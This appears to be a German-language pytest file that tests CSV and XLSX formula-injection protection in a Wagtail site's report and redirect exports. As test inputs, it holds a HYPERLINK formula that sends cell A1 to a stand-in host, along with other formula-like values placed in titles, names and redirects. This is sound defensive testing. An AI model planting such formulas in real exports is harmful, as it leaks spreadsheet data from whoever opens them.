"""What people write into a title is no formula in any exported table."""

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from home.models import NewsIndexPage
from sites.access.roles import LEITUNG
from sites.wagtail_patches.csv_cells import harmless
from tests.factories import NewsPageFactory
from tests.world import list_page

FORMULA = '=HYPERLINK("https://example.test/?"&A1;"Hier")'


@pytest.mark.parametrize("sign", "=+-@＝＋－＠")
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\ufeff", "\u200b", "\t", "'", '"'])
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(sign, before):
    cell = harmless(f"{before}{sign}1+1")
    assert cell == f"'{before}{sign}1+1"


@pytest.mark.parametrize("before", ["\t", "\r", "\n", " \t"])
def test_also_where_a_program_leaves_the_beginning_out(before):
    assert harmless(f"{before}Kurs") == f"'{before}Kurs"


@pytest.mark.parametrize("split", [";", "\n", "\r\n", "\t", "; ", ';"'])
def test_also_where_a_program_splits_the_text_into_cells(split):
    cell = harmless(f"Kurs{split}=1+1")
    assert "'" in cell[:-4]
    assert cell.replace("'", "") == f"Kurs{split}=1+1"


@pytest.mark.parametrize(
    "value",
    ["", "Kurs", "a=b", "10-12 Uhr", "-5", "-3,5", "-0.25", -5, -3.5, Decimal("-1"), None, date(2027, 5, 4)],
)
def test_what_is_none_stays_as_it_is(value):
    assert harmless(value) == value
    assert type(harmless(value)) is type(value)


@pytest.fixture
def written(traeger_a, person):
    """Everything that people can write and that some table shows begins like a formula."""
    author = person(
        LEITUNG, traeger_a, is_superuser=True, first_name=FORMULA, last_name="+49", email="a=b@beispiel.test"
    )
    page = NewsPageFactory(parent=list_page(traeger_a, NewsIndexPage), title=FORMULA, owner=author)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=author, locked_at="2027-05-04T12:00Z")
    page.refresh_from_db()
    page.save_revision(user=author, log_action=True).publish(user=author)
    Redirect.objects.create(old_path="/=1+1", site=traeger_a.site, redirect_link="@SUM(A1)")
    page.get_workflow().start(page, author)
    return author


# All that have one: Wagtail exports no list of people, and the portal has no forms.
EXPORTS = [
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailredirects:index",
]


@pytest.mark.parametrize("view", EXPORTS)
def test_no_export_has_a_formula(written, traeger_a, client_for, view):
    client = client_for(written, traeger_a)
    text = b"".join(client.get(reverse(view), {"export": "csv"}).streaming_content).decode()
    cells = [cell for row in csv.reader(StringIO(text)) for cell in row]
    assert len(cells) > 3
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []

    content = b"".join(client.get(reverse(view), {"export": "xlsx"}).streaming_content)
    sheet = load_workbook(BytesIO(content)).active
    assert [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []


def test_the_titles_are_there(written, traeger_a, client_for):
    client = client_for(written, traeger_a)
    text = b"".join(client.get(reverse(EXPORTS[1]), {"export": "csv"}).streaming_content).decode()
    assert f"'{FORMULA}" in [cell for row in csv.reader(StringIO(text)) for cell in row]
